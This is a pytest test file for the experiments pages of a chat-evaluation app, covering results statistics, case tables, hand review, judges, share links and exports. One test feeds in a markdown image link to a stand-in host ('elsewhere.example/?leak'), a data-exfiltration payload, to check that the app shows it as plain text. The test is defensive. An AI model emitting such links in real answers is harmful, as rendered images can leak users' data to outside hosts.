"""What Results, Cases, Review and Take away show of experiments whose answers are known, and what they change."""

from html import unescape

import pytest
from sqlalchemy import text

from chatplay.experiments.values import JudgePlan
from tests.db.chat_rig import add_person
from tests.experiment_results_rig import MODEL, cut_off, finish
from tests.pages.screen import labels, notices, opened, press, ran, said


@pytest.fixture
def bob(services):
    """Somebody else's id; not signed in."""
    return add_person(services.store, "bob")


def table_with(app, column):
    return next(one.value for one in app.dataframe if column in one.value.columns)


def with_numbers(app, experiment, card):
    """With the numbers behind the chart of a card opened."""
    app.session_state[f"experiments_numbers_{card}_{experiment.id}"] = True
    return ran(app)


# ---- results -----------------------------------------------------------------------------------


def test_results_of_a_finished_experiment_show_each_arm_with_its_mean_and_trials(services, ada):
    app = opened("experiments", experiment=finish(services, ada.id).id, tab="results")
    arms = table_with(app, "Failed")
    assert list(arms["Arm"]) == ["temperature 0", "temperature 1"]
    assert list(arms["n"]) == [12, 12]
    assert list(arms["Score"]) == [1.0, 0.5]


def test_an_arm_that_is_wrong_in_half_of_many_cases_is_called_worse_than_the_baseline(services, ada):
    experiment = finish(services, ada.id, cases=12)
    app = opened("experiments", experiment=experiment.id, tab="results")
    words = table_with(with_numbers(app, experiment, "baseline"), "In words")
    assert list(words["In words"]) == ["worse"]
    assert words["Difference"][0] == -0.5


def test_arms_that_answer_alike_are_not_told_apart(services, ada):
    same = finish(services, ada.id, lambda arm, case, repeat: f"It is w{case}.")
    app = with_numbers(opened("experiments", experiment=same.id, tab="results"), same, "baseline")
    assert table_with(app, "In words")["In words"][0].startswith("can't tell")


def test_cases_that_all_differ_by_the_same_amount_ask_for_cases_and_have_no_interval(services, ada):
    experiment = finish(services, ada.id, cases=3, rules=False)  # each arm takes 50 ms longer than the one before it
    app = with_numbers(opened("experiments", experiment=experiment.id, tab="results"), experiment, "baseline")
    assert table_with(app, "In words")["In words"][0].startswith("can't tell yet, about 3 more cases would (")
    assert "No interval: all 3 cases differ by the same amount" in said(app)


def first_arm_scores_and_second_fails(arm, case, repeat):
    """The first arm is right in two of five cases, the second fails altogether, the third is always right."""
    is_right = arm == 2 or case < 2
    return None if arm == 1 else f"It is w{case}." if is_right else "No idea."


def test_mean_of_the_baseline_is_its_own_when_the_first_arm_beside_it_failed(services, ada):
    experiment = finish(services, ada.id, first_arm_scores_and_second_fails, axes="0, 0.5, 1", cases=5)
    app = opened("experiments", experiment=experiment.id, tab="results")
    assert "Score minus temperature 0 (0.40)." in said(app)


def test_arm_without_any_value_has_nothing_to_compare(services, ada):
    experiment = finish(services, ada.id, first_arm_scores_and_second_fails, axes="0, 0.5, 1", cases=5)
    app = with_numbers(opened("experiments", experiment=experiment.id, tab="results"), experiment, "baseline")
    words = next(one.value for one in app.dataframe if list(one.value.columns[:2]) == ["Arm", "Score"])
    assert list(words["Score"]) == ["nothing to compare", "can't tell yet"]


def test_another_baseline_turns_the_difference_round(services, ada):
    experiment = finish(services, ada.id, cases=12)
    app = opened("experiments", experiment=experiment.id, tab="results")
    app.selectbox(key=f"experiments_baseline_{experiment.id}").select(1)
    assert list(table_with(with_numbers(app, experiment, "baseline"), "In words")["In words"]) == ["better"]


def test_failed_trials_are_counted_and_said(services, ada):
    experiment = finish(services, ada.id, lambda arm, case, repeat: None if arm and not case else f"It is w{case}.")
    app = opened("experiments", experiment=experiment.id, tab="results")
    assert "2 trials failed" in said(app)
    assert list(table_with(app, "Failed")["Failed"]) == [0, 2]


def test_answers_that_were_cut_off_are_said_of_their_arm_and_marked_in_its_cells(services, ada):
    experiment = finish(services, ada.id)
    cut_off(services, experiment, arm=1)
    shown = said(opened("experiments", experiment=experiment.id, tab="results"))
    assert "temperature 1: 12 of 12 answers cut off" in shown
    assert "temperature 0: " not in shown
    cell = opened("experiments", experiment=experiment.id, tab="cases", case=1, arm=2)
    assert "Cut off" in said(cell)


def test_results_of_a_run_under_way_say_how_many_trials_have_ended(services, ada):
    experiment = finish(services, ada.id)
    services.experiments.rerun_cell(user_id=ada.id, experiment_id=experiment.id, arm=0, case=0)
    app = opened("experiments", experiment=experiment.id, tab="results")
    assert "22 of 24 trials have ended" in said(app)
    assert list(table_with(app, "Failed")["n"]) == [10, 12]


def test_results_before_the_first_end_of_a_trial_say_that_figures_will_come(services, ada):
    experiment = finish(services, ada.id, cases=1, repeats=1, axes="0")
    services.experiments.rerun_cell(user_id=ada.id, experiment_id=experiment.id, arm=0, case=0)
    assert "No trial has ended yet" in said(opened("experiments", experiment=experiment.id, tab="results"))


def test_one_arm_has_a_row_but_nothing_to_be_compared_with(services, ada):
    app = opened("experiments", experiment=finish(services, ada.id, axes="0.5").id, tab="results")
    assert "nothing to compare it with" in said(app)
    assert len(table_with(app, "Failed")) == 1


def test_one_case_says_what_is_lost(services, ada):
    app = opened("experiments", experiment=finish(services, ada.id, cases=1).id, tab="results")
    assert "1 case only: intervals are rough" in said(app)


def test_what_is_lost_is_said_once_on_the_page(services, ada):
    app = opened("experiments", experiment=finish(services, ada.id, cases=5).id, tab="results")
    assert said(app).count("5 cases only: intervals are rough") == 1


def test_without_scores_the_other_figures_are_shown(services, ada):
    app = opened("experiments", experiment=finish(services, ada.id, rules=False).id, tab="results")
    assert "No answer has a score" in said(app)
    assert "TTFT" in table_with(app, "Failed").columns


def test_scores_by_hand_replace_those_of_rules_when_chosen(services, ada):
    experiment = finish(services, ada.id)
    item = services.experiments.next_for_review(user_id=ada.id, experiment_id=experiment.id)
    app = opened("experiments", experiment=experiment.id, tab="results")
    whose = {"user_id": ada.id, "experiment_id": experiment.id}
    services.experiments.add_hand_score(**whose, trial_id=item.trial_id, score=0.25)
    app.selectbox(key=f"experiments_scored_by_{experiment.id}").select("hand")
    assert 0.25 in set(table_with(ran(app), "Failed")["Score"])


def test_every_card_says_how_it_is_computed(services, ada):
    app = opened("experiments", experiment=finish(services, ada.id, axes="0, 0.5, 1").id, tab="results")
    text = unescape(said(app))
    for source in ("Wilson 1927", "Holm 1979", "Searle", "Davison & Hinkley", "Bradley & Terry 1952"):
        assert source in text


def test_numbers_behind_a_chart_are_drawn_once_they_are_opened(services, ada):
    experiment = finish(services, ada.id)
    app = opened("experiments", experiment=experiment.id, tab="results")
    tables = len(app.dataframe)
    assert len(with_numbers(app, experiment, "settings").dataframe) == tables + 1
    assert "csv_experiment-settings" in [one.key for one in app.get("download_button")]


def test_results_that_are_kept_are_shown_again_as_they_were(services, ada):
    experiment = finish(services, ada.id)
    first = opened("experiments", experiment=experiment.id, tab="results")
    second = opened("experiments", experiment=experiment.id, tab="results")
    specs = [[one.proto.spec for one in app.get("vega_lite_chart")] for app in (first, second)]
    assert len(specs[0]) == 4
    assert specs[0] == specs[1]
    assert table_with(first, "Failed").equals(table_with(second, "Failed"))


# ---- cases -------------------------------------------------------------------------------------


def test_the_case_table_has_a_column_for_each_arm(services, ada):
    app = opened("experiments", experiment=finish(services, ada.id).id, tab="cases")
    rows = table_with(app, "Case")
    assert list(rows.columns) == ["Case", "word", "expected", "temperature 0", "temperature 1"]
    assert list(rows["temperature 1"][:2]) == ["0.00", "1.00"]


def test_cases_where_arms_differ_are_found(services, ada):
    experiment = finish(services, ada.id)
    app = opened("experiments", experiment=experiment.id, tab="cases")
    app.button_group(key=f"experiments_cells_only_{experiment.id}").set_value("arms_differ")
    assert list(table_with(ran(app), "Case")["Case"]) == [1, 3, 5]


def test_a_search_without_a_hit_says_so(services, ada):
    experiment = finish(services, ada.id)
    app = opened("experiments", experiment=experiment.id, tab="cases")
    app.text_input(key=f"experiments_cells_search_{experiment.id}").input("zebra")
    assert "No case holds this text" in said(ran(app))


def test_a_cell_shows_every_repeat_with_the_reasons_of_rules(services, ada):
    app = opened("experiments", experiment=finish(services, ada.id).id, tab="cases", case=1, arm=2)
    text = said(app)
    assert "No idea 0." in text
    assert "No idea 1." in text
    assert "2 different answers" in text
    assert "“w0” is not in the answer." in text


def test_a_cell_whose_rule_gave_no_verdict_says_why(services, ada):
    app = opened("experiments", experiment=finish(services, ada.id, blank=(0,)).id, tab="cases", case=1, arm=1)
    assert "n/a. This case has nothing in the column expected." in said(app)


def test_a_cell_whose_judge_gave_no_verdict_shows_what_it_said(services, ada):
    experiment = finish(services, ada.id)
    number = services.experiments.run_judge(
        user_id=ada.id, role="analyst", experiment_id=experiment.id, plan=JudgePlan(MODEL, "Right?")
    )
    said_by_judge = """UPDATE experiment_trials SET state = 'done', rule_scores = '[{"reason": "I would rather not."}]'
      WHERE experiment_id = :id AND judge = :judge"""
    with services.store.transaction() as conn:
        conn.execute(text(said_by_judge), {"id": experiment.id, "judge": number})
    shown = said(opened("experiments", experiment=experiment.id, tab="cases", case=1, arm=1))
    assert "Judge 1 gave no verdict: I would rather not." in shown


def test_a_cell_that_still_runs_offers_no_recording_of_its_old_calls(services, ada):
    experiment = finish(services, ada.id)
    services.experiments.rerun_cell(user_id=ada.id, experiment_id=experiment.id, arm=0, case=0)
    shown = labels(opened("experiments", experiment=experiment.id, tab="cases", case=1, arm=1))
    assert "Flight recorder" not in shown


def test_the_difference_of_two_repeats_is_marked(services, ada):
    app = opened("experiments", experiment=finish(services, ada.id).id, tab="cases", case=1, arm=2)
    app.toggle(key="experiments_cell_diff").set_value(True)
    assert "<del>0</del><ins>1</ins>" in said(ran(app))


def test_hostile_answers_stay_text(services, ada):
    experiment = finish(services, ada.id, lambda arm, case, repeat: "![x](http://elsewhere.example/?leak) <b>w0</b>")
    app = opened("experiments", experiment=experiment.id, tab="cases", case=1, arm=1)
    assert not any("![x](http" in one.value for one in app.markdown)


def test_a_cell_run_again_waits(services, ada):
    app = opened("experiments", experiment=finish(services, ada.id).id, tab="cases", case=1, arm=1)
    app = press(app, "Run this cell again")
    assert "Waiting" in said(app)
    assert "Running" in said(app)  # the experiment
    assert notices(app) == ""


def pause(services, experiment):
    with services.store.transaction() as conn:
        conn.execute(text("UPDATE experiments SET state = 'paused' WHERE id = :id"), {"id": experiment.id})


def test_a_cell_of_a_paused_experiment_is_said_to_run_again_once_it_is_resumed(services, ada):
    experiment = finish(services, ada.id)
    pause(services, experiment)
    app = press(opened("experiments", experiment=experiment.id, tab="cases", case=1, arm=1), "Run this cell again")
    assert "runs once it is resumed" in notices(app)
    assert "Waiting" in said(app)


def test_an_address_outside_the_table_shows_the_table(services, ada):
    app = opened("experiments", experiment=finish(services, ada.id).id, tab="cases", case=99, arm=1)
    assert len(table_with(app, "Case")) == 6


# ---- review ------------------------------------------------------------------------------------


def scores_of(services, ada, experiment):
    cells = [
        services.experiments.get_cell(user_id=ada.id, experiment_id=experiment.id, arm=arm, case=case)
        for arm in range(2)
        for case in range(6)
    ]
    return [hand for cell in cells for trial in cell.trials for hand in trial.hand_scores]


def test_a_score_is_stored_and_the_next_answer_comes(services, ada):
    experiment = finish(services, ada.id)
    app = opened("experiments", experiment=experiment.id, tab="review")
    assert "24 to score" in said(app)
    assert "23 to score" in said(press(app, "Good"))
    assert [hand.score for hand in scores_of(services, ada, experiment)] == [0.75]


def test_back_shows_the_last_answer_again_and_another_score_replaces_it(services, ada):
    experiment = finish(services, ada.id)
    app = press(press(opened("experiments", experiment=experiment.id, tab="review"), "Poor"), "Back")
    assert "You scored it **Poor**" in said(app)
    press(app, "Perfect")
    assert [hand.score for hand in scores_of(services, ada, experiment)] == [1.0]


def test_a_note_is_stored_with_the_score(services, ada):
    experiment = finish(services, ada.id)
    app = press(opened("experiments", experiment=experiment.id, tab="review"), "Note")
    next(one for one in app.text_input if one.label == "Note").input("Too short")
    press(press(app, "Keep the note"), "Fair")
    assert [hand.note for hand in scores_of(services, ada, experiment)] == ["Too short"]


def test_skipped_answers_come_again_at_the_end(services, ada):
    experiment = finish(services, ada.id, axes="0", cases=1, repeats=2)
    app = press(press(opened("experiments", experiment=experiment.id, tab="review"), "Skip"), "Good")
    assert "1 skipped item left" in said(app)
    assert "1 to score" in said(press(app, "Show the skipped ones"))


def test_the_arm_is_not_told_while_scoring(services, ada):
    assert "temperature" not in said(opened("experiments", experiment=finish(services, ada.id).id, tab="review"))


def test_a_vote_on_a_pair_counts_in_the_ranking(services, ada):
    experiment = finish(services, ada.id)
    app = opened("experiments", experiment=experiment.id, tab="review")
    app.button_group(key="experiments_review_mode").set_value("Votes on pairs")
    app = press(ran(app), "Left is better")
    votes = services.experiments.list_votes(user_id=ada.id, experiment_id=experiment.id)
    assert len(votes) == 1
    assert votes[0].winner == "left"
    app = opened("experiments", experiment=experiment.id, tab="results")
    assert len(table_with(with_numbers(app, experiment, "votes"), "Chance to win")) == 2


def test_a_judge_is_set_to_work(services, ada):
    experiment = finish(services, ada.id)
    app = opened("experiments", experiment=experiment.id, tab="review")
    app.button_group(key="experiments_review_mode").set_value("Judges")
    app = press(ran(app), "Judge 24 answers")
    (judge,) = services.experiments.list_judges(user_id=ada.id, experiment_id=experiment.id)
    assert judge.total == 24
    assert "{{expected}}" in judge.plan.rubric
    assert "0 of 24" in said(app)


def test_a_judge_of_a_paused_experiment_is_said_to_begin_once_it_is_resumed(services, ada):
    experiment = finish(services, ada.id)
    pause(services, experiment)
    app = opened("experiments", experiment=experiment.id, tab="review")
    app.button_group(key="experiments_review_mode").set_value("Judges")
    app = press(ran(app), "Judge 24 answers")
    assert "runs once it is resumed" in notices(app)
    assert "0 of 24 calls, paused" in [one.proto.text for one in app.get("progress")]


def test_a_rubric_with_an_unknown_column_is_refused_in_words(services, ada):
    experiment = finish(services, ada.id)
    app = opened("experiments", experiment=experiment.id, tab="review")
    app.button_group(key="experiments_review_mode").set_value("Judges")
    ran(app).text_area(key=f"experiments_judge_rubric_{experiment.id}").input("Is it {{nonsense}}?")
    assert "The cases have no column `nonsense`" in said(press(app, "Judge 24 answers"))


# ---- take away, and through a link -------------------------------------------------------------


def test_a_link_is_told_once_and_can_be_revoked(services, ada):
    experiment = finish(services, ada.id)
    app = press(opened("experiments", experiment=experiment.id, tab="take-away"), "Make a link")
    address = next(one.value for one in app.code if "shared=" in one.value)
    token = address.partition("shared=")[2]
    assert services.experiments.get_shared(user_id=ada.id, token=token).id == experiment.id
    app = press(app, "Revoke")
    assert not any("shared=" in one.value for one in app.code)
    assert services.experiments.list_links(user_id=ada.id, experiment_id=experiment.id) == []


def test_a_clone_is_a_draft_of_its_own(services, ada):
    experiment = finish(services, ada.id)
    press(opened("experiments", experiment=experiment.id, tab="take-away"), "Clone this experiment")
    states = [line.state for line in services.experiments.list_experiments(user_id=ada.id)]
    assert sorted(states) == ["done", "draft"]


def test_all_files_are_offered(services, ada):
    app = opened("experiments", experiment=finish(services, ada.id).id, tab="take-away")
    files = [one for one in app.get("link_button") if "/export?" in one.proto.url]
    assert [one.proto.label for one in files] == ["CSV", "JSONL", "Parquet"]
    assert [one.label for one in app.get("download_button")] == ["Notebook"]


def test_code_asks_this_app_with_a_token_of_ones_own(services, ada):
    app = opened("experiments", experiment=finish(services, ada.id).id, tab="take-away")
    code = next(one.value for one in app.code if one.language == "bash")
    assert "/v1/chat/completions" in code
    assert "$CHATPLAY_TOKEN" in code


@pytest.fixture
def shared(services, ada, bob, sign_in_as):
    """The token of ada's experiment; bob is signed in."""
    experiment = finish(services, ada.id)
    services.experiments.run_judge(
        user_id=ada.id, role="analyst", experiment_id=experiment.id, plan=JudgePlan(MODEL, "Right?")
    )
    token = services.experiments.add_link(user_id=ada.id, experiment_id=experiment.id).token
    sign_in_as(bob)
    return token


@pytest.mark.parametrize("tab", ["results", "cases", "take-away"])
def test_who_comes_by_a_link_sees_the_tab_and_can_change_nothing(shared, tab):
    app = opened("experiments", shared=shared, tab=tab)
    assert not app.error
    changing = {"Run this cell again", "Make a link", "Revoke", "Good", "Judge 24 answers"}
    assert not changing & set(labels(app))


def test_a_cell_through_a_link_has_no_run_again_but_its_flight_recorder(shared):
    app = opened("experiments", shared=shared, tab="cases", case=1, arm=1)
    assert "Run this cell again" not in labels(app)
    app = press(app, "Flight recorder")
    assert "demo-small" in said(app)


def test_a_revoked_link_shows_nothing(services, ada, shared):
    (line,) = services.experiments.list_experiments(user_id=ada.id)
    (link,) = services.experiments.list_links(user_id=ada.id, experiment_id=line.id)
    services.experiments.revoke_link(user_id=ada.id, experiment_id=line.id, link_id=link.id)
    assert "There is no such experiment" in said(opened("experiments", shared=shared, tab="results"))
